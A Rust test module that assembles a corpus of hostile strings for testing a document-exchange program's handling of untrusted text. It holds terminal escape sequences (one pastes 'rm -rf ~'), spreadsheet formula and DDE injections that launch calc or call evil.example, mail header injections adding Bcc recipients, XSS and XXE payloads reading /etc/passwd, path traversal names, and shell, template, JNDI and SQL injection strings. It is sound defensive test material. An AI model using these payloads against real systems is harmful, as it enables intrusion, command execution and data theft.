//! Text that wants to be more than text (6 R10): by rule where a rule names the family, by hand where wit is needed.
//! Shared by the tests of the papers (`src/exchange/hostile_tests.rs`) and those of the whole program.

/// Whether a terminal, a reader or a parser may obey this character. Said again here and not asked of the program: the
/// tests must not believe what they test.
pub fn drives(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{fffe}' | '\u{ffff}'
        )
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{e0000}'..='\u{e007f}')
}

/// A word that only a line of the attacker's begins with.
pub const FORGED: &str = "ПОДЛОГ";

/// What terminals obey.
const SEQUENCES: &[&str] = &[
    "\u{1b}[2J",
    "\u{1b}[H\u{1b}[J",
    "\u{1b}[31mкрасный\u{1b}[0m",
    "\u{1b}[6n",
    "\u{1b}[c",
    "\u{1b}[>0q",
    "\u{1b}[?1049h",
    "\u{1b}[?25l",
    "\u{1b}[?2004h",
    "\u{1b}[200~rm -rf ~\u{1b}[201~",
    "\u{1b}[1;1r",
    "\u{1b}[8m",
    "\u{1b}[5i",
    "\u{1b}[21t",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]2;owned\u{1b}\\",
    "\u{1b}]4;1;rgb:00/00/00\u{7}",
    "\u{1b}]7;file:///etc\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\Каскад\u{1b}]8;;\u{1b}\\",
    "\u{1b}]9;4;1;50\u{7}",
    "\u{1b}]10;?\u{7}",
    "\u{1b}]50;x\u{7}",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{1b}]52;c;?\u{7}",
    "\u{1b}]777;notify;a;b\u{7}",
    "\u{1b}]1337;File=name=eA==:eA==\u{7}",
    "\u{1b}P+q\u{1b}\\",
    "\u{1b}P$qm\u{1b}\\",
    "\u{1b}Pq#0;2;0;0;0\u{1b}\\",
    "\u{1b}_Gi=1;AAAA\u{1b}\\",
    "\u{1b}^x\u{1b}\\",
    "\u{1b}X\u{1b}\\",
    "\u{1b}c",
    "\u{1b}7\u{1b}8",
    "\u{1b}(0lqk",
    "\u{1b}#8",
    "\u{1b}%@",
    "\u{1b}N\u{1b}O",
    "\u{9b}2J",
    "\u{9b}31m",
    "\u{9d}0;x\u{9c}",
    "\u{9d}8;;http://x\u{9c}",
    "\u{90}q\u{9c}",
    "\u{9f}Gx\u{9c}",
    "\u{1b}",
    "\u{1b}[",
    "\u{1b}]",
    "\u{1b}[999999999999C",
    "\u{1b}\u{1b}[A",
    "\u{e}\u{f}",
    "\u{8}\u{8}\u{8}забой",
    "\rКаскад",
    "\u{7}\u{7}\u{7}",
    "\u{5}",
];

/// What a spreadsheet reckons, after each of the signs it begins with.
const SIGNS: &[&str] = &[
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\r\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u{a0}=",
    "'=",
    "''=",
    "\"=",
    "\u{200b}=",
    "\u{feff}=",
    "\u{1b}=",
    "\u{0}=",
    "\u{2028}=",
];
const RECKONED: &[&str] =
    &["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/\"&A1;\"x\")", "SUM(A1:A9)*WEBSERVICE(\"x\")"];

/// Headers of mail, and of anything else with lines.
const HEADERS: &[&str] = &[
    "\r\nBcc: x@evil.example",
    "\nBcc: x@evil.example",
    "\rBcc: x@evil.example",
    "\u{2028}Bcc: x@evil.example",
    "\u{85}Bcc: x@evil.example",
    "\u{b}Bcc: x@evil.example",
    "x\r\n\r\nтело",
    "x\r\n .\r\n",
    "x\r\n.\r\nQUIT",
    "\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "\nSubject: другое",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "=?utf-8?q?=0D=0ABcc:_x?=",
    "%0d%0aBcc:x",
    "<x@evil.example>",
    "\"><x@evil.example>",
    "a@b.example, x@evil.example",
    "a@b.example\r\nRCPT TO:<x@evil.example>",
    "Каскад <x@evil.example>, ",
    "undisclosed-recipients:;",
    "x\u{0}@evil.example",
];

/// Markup of papers, pages and vector pictures.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</text></svg><script>1</script>",
    "</w:t></w:r></w:p>",
    "<w:br/>",
    "<w:fldSimple w:instr=\"DDEAUTO c:\\\\x\"/>",
    "&amp;&lt;&#x1b;&#0;&bogus;",
    "]]>",
    "<![CDATA[x]]>",
    "<!--",
    "-->",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "</si></sst>",
    "<f>1+1</f>",
    "_x000D_=1+1",
    "_x001B_[2J",
    "{ DDEAUTO c:\\\\windows\\\\cmd \"/k calc\" }",
];

/// Names that are paths or devices.
const NAMES: &[&str] = &[
    "../../etc/passwd",
    "..",
    ".",
    "/etc/passwd",
    "~/.bashrc",
    "..\\..\\x",
    "C:\\con",
    "\\\\server\\share",
    "CON",
    "nul.txt",
    "COM1",
    "LPT9.docx",
    "aux",
    ".hidden",
    "-rf",
    "--help",
    "x\u{0}.docx",
    "a:b|c?d*e",
    "trailing. ",
    "x/../../y",
    "файл\u{202e}xcod.exe",
];

/// Programs inside text.
const PROGRAMS: &[&str] = &[
    "{{ почта }}",
    "{{ 7*7 }}",
    "{% for x in range(1000000) %}x{% endfor %}",
    "{#",
    "{ $name }",
    "{ -term }",
    "${jndi:ldap://x}",
    "$(id)",
    "`id`",
    "%s%n%d",
    "'; DROP TABLE client;--",
    "\" OR 1=1",
    "* NEAR(x)",
    "владелец:",
    "\\u001b[2J",
    "\\x1b[2J",
    "^[[2J",
    "{\"name\": 1}",
    "[1,2",
    "client:42",
    "employee:1",
    "¤001¤",
];

/// Text that is wide, long, stacked or runs the other way.
fn shapes() -> Vec<String> {
    let mut out: Vec<String> = [
        "👩‍👩‍👧‍👦 семья",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇷🇺🇷🇺🇷",
        "👍🏿",
        "❤️\u{fe0f}",
        "日本語の会社",
        "한국어",
        "中文",
        "עברית",
        "العربية ١٢٣",
        "ﷺ",
        "𝒳𝓎𝓏",
        "ｆｕｌｌ",
        "ไทยกำ",
        "देवनागरी",
        "Каскад\u{3000}Каскад",
        "\u{202e}дакса К",
        "\u{2066}\u{2067}\u{2068}x\u{2069}",
        "\u{61c}٣",
        "\u{115f}\u{1160}",
        "\u{3164}",
        "\u{2800}",
        "\u{fdfd}\u{fdfd}",
        "\u{1f3fb}",
        "\u{10ffff}",
        "\u{f8ff}",
        "\u{2029}абзац",
        "",
        " ",
        "\u{a0}",
        "0",
        "-0",
        "NaN",
        "null",
    ]
    .map(str::to_owned)
    .into();
    out.push(format!("и{}", "\u{306}".repeat(200)));
    out.push("a\u{301}\u{301}\u{301}".repeat(40));
    out.push("\u{301}\u{301}один\u{489}\u{489}".to_owned());
    out.push("Д".repeat(5_000));
    out.push("слово ".repeat(2_000));
    out.push("日".repeat(3_000));
    out.push("👨‍👩‍👧".repeat(500));
    out.push(format!("{}Каскад", "\u{200b}".repeat(1_000)));
    out.push("\n".repeat(300));
    out.push("\t".repeat(300));
    out
}

/// At least four hundred different strings.
pub fn corpus() -> Vec<String> {
    let mut out = Vec::new();
    // Every control, mark and separator by itself, inside honest text.
    let singles =
        (0..0x20).chain(0x7f..0xa0).chain([0xad, 0x61c, 0x180e, 0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xfffe, 0xffff]);
    let marks =
        (0x200b..=0x200f).chain(0x2028..=0x202e).chain(0x2060..=0x206f).chain([0xe0001, 0xe0020, 0xe0041, 0xe007f]);
    for c in singles.chain(marks).filter_map(char::from_u32) {
        out.push(format!("АО {c} Каскад"));
    }
    for s in SEQUENCES {
        out.extend([format!("{s}Каскад"), format!("Каскад {s}")]);
    }
    for sign in SIGNS {
        out.extend(RECKONED.iter().map(|r| format!("{sign}{r}")));
    }
    for line in ["\n", "\r\n", "\r", "\u{85}", "\u{2028}", "\u{b}", "\u{c}"] {
        out.push(format!("Каскад{line}{FORGED}: всё удалено"));
    }
    for family in [HEADERS, MARKUP, NAMES, PROGRAMS] {
        out.extend(family.iter().map(|s| (*s).to_owned()));
    }
    out.extend(HEADERS.iter().chain(MARKUP).map(|s| format!("Каскад{s}")));
    out.extend(shapes());
    assert!(out.len() >= 400, "{}", out.len());
    out
}
